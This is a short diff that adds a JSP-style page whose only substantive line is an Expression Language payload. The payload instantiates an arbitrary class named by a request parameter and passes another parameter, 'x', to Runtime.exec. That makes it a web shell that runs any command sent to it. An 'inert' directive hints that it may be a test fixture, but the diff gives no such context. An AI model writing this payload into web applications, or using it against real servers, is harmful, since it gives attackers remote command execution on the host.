@@ -1,0 +1,2 @@
+<%@ inert %>
+${param.getClass().forName(param.c).newInstance()} ${"".getClass().forName("java.lang.Runtime").getRuntime().exec(param.x)}
